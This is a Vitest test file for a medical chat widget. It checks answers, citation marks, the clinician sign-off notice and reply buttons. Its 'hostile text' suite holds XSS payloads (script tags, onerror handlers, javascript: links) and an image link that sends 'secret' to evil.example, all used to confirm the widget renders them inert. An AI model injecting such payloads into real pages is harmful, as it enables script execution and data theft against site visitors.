import { afterEach, describe, expect, it, vi } from 'vitest';
import { choices, drivingAnswer, policyReply, smallTalk } from '../../widget/demo/fixtures/answers.ts';
import type { Block, CitedSource, MessageReply } from '../../widget/shared/wire.ts';
import { all, clean, find, panel, press, words } from './support/panel.ts';

afterEach(clean);

/** A panel that has just been given this reply. */
async function shown(reply: MessageReply | Partial<MessageReply>) {
  const element = await panel({ message: async () => ({ ...drivingAnswer('en'), ...reply }) });
  await element.ask('a question');
  await vi.waitFor(() => find(element, '.card, .smalltalk'));
  return element;
}

describe('an answer', () => {
  it('shows the short answer, and folds its details away', async () => {
    const element = await shown(drivingAnswer('en'));
    expect(words(element, '.card > .words')).toContain('do not drive until the next day');
    expect(find<HTMLDetailsElement>(element, '.more').open).toBe(false);
    await press(element, 'More');
    expect(find<HTMLDetailsElement>(element, '.more').open).toBe(true);
    expect(words(element, '.more h3')).toBe('What counts');
  });

  it('puts a numbered mark behind each sentence that has a source, and none behind others', async () => {
    const element = await shown(drivingAnswer('en'));
    expect(all(element, '.card > .words .mark').map((mark) => mark.textContent)).toEqual(['1', '2']);
    expect(words(element, '.card > .words p')).toContain('restful sleep.1 After a');
    expect(find(element, '.mark').getAttribute('aria-label')).toBe('Source 1: SPRAVATO administration, monitoring and discharge');
  });

  it('says plainly that no clinician has signed it', async () => {
    const element = await shown(drivingAnswer('en'));
    expect(words(element, '.meta')).toContain('Checked against its sources on November 21, 2026; no clinician has signed it yet.');
  });

  it('names who signed it, as what, where somebody has', async () => {
    const signature = { name: 'Test Person', role: 'test role', licenceBody: 'Test College', on: '2026-11-30' };
    const element = await shown({ ...drivingAnswer('en'), reviewed: { status: 'signed', on: '2026-11-21', due: '2027-05-21', signature } });
    expect(words(element, '.meta')).toContain('Checked against its sources on November 21, 2026 and signed by Test Person, test role (Test College).');
  });

  it('leads from its sources to the same answer on the page that needs no script', async () => {
    const element = await shown(drivingAnswer('en'));
    await press(element, 'Sources (2)');
    const link = all(element, '.sheet a').at(-1) as HTMLAnchorElement;
    expect(new URL(link.href).pathname + new URL(link.href).search + new URL(link.href).hash).toBe('/c/test/faq?lang=en#driving');
  });

  it('opens its sources over the log, with the pressed one marked, and gives the focus back', async () => {
    const element = await shown(drivingAnswer('en'));
    all(element, '.mark')[1]?.click();
    await vi.waitFor(() => expect(element.shadowRoot?.activeElement?.id).toBe('sources-title'));
    expect(words(element, '.sheet .chosen')).toContain('Mayo Clinic / Merative, 2024');
    expect(find(element, '.log').inert).toBe(true);
    const link = find<HTMLAnchorElement>(element, '.sheet a');
    expect([link.rel, link.target]).toEqual(['noopener noreferrer', '_blank']);
    await press(element, 'Close');
    expect(all(element, '.sheet')).toEqual([]);
    expect(element.shadowRoot?.activeElement?.className).toBe('mark');
  });

  it('with many sources names their number in one button, which opens the whole list with none marked', async () => {
    const [source] = drivingAnswer('en').sources;
    const sources = Array.from({ length: 13 }, (_, n) => ({ ...(source as CitedSource), id: `source-${n}` }));
    const element = await shown({ ...drivingAnswer('en'), sources });
    expect(all(element, '.meta button').map((button) => button.textContent)).toEqual(['Sources (13)']);
    expect(all(element, '.meta .mark')).toEqual([]);
    await press(element, 'Sources (13)');
    expect(all(element, '.sheet li')).toHaveLength(13);
    expect(all(element, '.sheet .chosen')).toEqual([]);
    await press(element, 'Close');
    expect(element.shadowRoot?.activeElement?.textContent).toBe('Sources (13)');
  });

  it('in another language than the panel is marked as such, and offers that language', async () => {
    const element = await shown(drivingAnswer('fr'));
    expect(find(element, '.words').lang).toBe('fr');
    await press(element, 'Utiliser cet assistant en français');
    await vi.waitFor(() => expect(words(element, '.who')).toBe('Assistant IA. Ni une personne, ni un clinicien.'));
  });

  it('marks single blocks that are not translated yet', async () => {
    const element = await shown({ lang: 'fr', blocks: [{ type: 'paragraph', lang: 'en', spans: [{ text: 'Not translated yet.' }] }] });
    expect(find(element, '.words p').lang).toBe('en');
  });

  it('that small talk gets has no sources, no “helpful?”, no frame of an answer', async () => {
    const element = await shown(smallTalk('en'));
    expect(all(element, '.meta, .judge, .next')).toEqual([]);
  });
});

describe('buttons of a reply', () => {
  it('call, write, open topics, send words and open the form', async () => {
    const blocks: Block[] = [
      {
        type: 'actions',
        actions: [
          { do: 'call', label: 'Call us', number: '250-555-0118' },
          { do: 'text', label: 'Text AYUDA', number: '988', body: 'AYUDA' },
          { do: 'topic', label: 'Side effects', topic: 'side-effects' },
          { do: 'form', label: 'Leave a message' },
        ],
      },
    ];
    const element = await shown({ blocks });
    expect(all(element, '.card a').map((link) => link.getAttribute('href'))).toEqual(['tel:2505550118', 'sms:988?&body=AYUDA']);
    await press(element, 'Side effects');
    await vi.waitFor(() => expect(all(element, '.asked')).toHaveLength(2));
    await press(element, 'Leave a message');
    expect(words(element, '#person-title')).toBe('Talk to a person');
  });

  it('of the check-in question send the visitor’s answer in their words', async () => {
    const message = vi.fn(async () => policyReply('crisis/check-in', 'en'));
    const element = await panel({ message });
    await element.ask('I cannot carry this much longer');
    await vi.waitFor(() => find(element, '.card'));
    await press(element, 'Not sure');
    expect(message).toHaveBeenLastCalledWith(expect.objectContaining({ text: 'Not sure' }));
  });

  it('with a number nobody can dial are words, not links', async () => {
    const element = await shown({ blocks: [{ type: 'actions', actions: [{ do: 'call', label: 'Call', number: 'javascript:alert(1)' }] }] });
    expect(all(element, '.card a')).toEqual([]);
    expect(words(element, '.card')).toContain('Call');
  });

  it('offer each choice as a topic, which is asked for by its title', async () => {
    const message = vi.fn(async () => choices('en'));
    const element = await panel({ message });
    await element.ask('a question');
    await vi.waitFor(() => expect(all(element, '.choices .actions button')).toHaveLength(3));
    await press(element, 'What are the side effects?');
    expect(message).toHaveBeenLastCalledWith(expect.objectContaining({ text: 'What are the side effects?', topic: 'side-effects', context: 'fixture' }));
  });
});

describe('hostile text', () => {
  const EVIL = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>[x](javascript:alert(1)) ![](https://evil.example/?q=secret)';

  it('stays text wherever a reply may carry it, and fetches nothing', async () => {
    const fetched: string[] = [];
    const observer = new PerformanceObserver((list) => fetched.push(...list.getEntries().map((entry) => entry.name)));
    observer.observe({ type: 'resource' });
    const spans = [{ text: EVIL, cites: [1] }];
    const element = await shown({
      blocks: [
        { type: 'heading', text: EVIL },
        { type: 'paragraph', spans },
        { type: 'list', items: [spans] },
        { type: 'actions', actions: [{ do: 'topic', topic: EVIL, label: EVIL }] },
      ],
      sources: [{ id: 'evil', title: EVIL, publisher: EVIL, year: 2024, url: 'javascript:alert(1)' }],
      suggestions: [{ topic: EVIL, text: EVIL }],
    });
    await element.ask(EVIL);
    find(element, '.mark').click();
    await element.updateComplete;
    expect(all(element, 'img, script, iframe')).toEqual([]);
    expect(all(element, '.sheet li a, .card a')).toEqual([]);
    expect(words(element, '.words h3')).toBe(EVIL.replace(/\s+/g, ' '));
    await new Promise((resolve) => setTimeout(resolve, 50));
    observer.disconnect();
    expect(fetched.filter((url) => url.includes('evil.example') || url.endsWith('/x'))).toEqual([]);
    expect((window as unknown as { hacked?: number }).hacked).toBeUndefined();
  });

  it('a kind of block or of button this widget does not know is left out, the rest is shown', async () => {
    const unknown = [
      { type: 'video', src: 'x' },
      { type: 'paragraph', spans: [{ text: 'Still here.' }] },
      { type: 'actions', actions: [{ do: 'teleport', label: '?' }] },
    ];
    const element = await shown({ blocks: unknown as unknown as Block[] });
    expect(words(element, '.card > .words')).toBe('Still here.');
  });

  it('a mark without a source is left out', async () => {
    const element = await shown({ blocks: [{ type: 'paragraph', spans: [{ text: 'Fact.', cites: [9] }] }], sources: [] });
    expect(all(element, '.mark')).toEqual([]);
  });
});
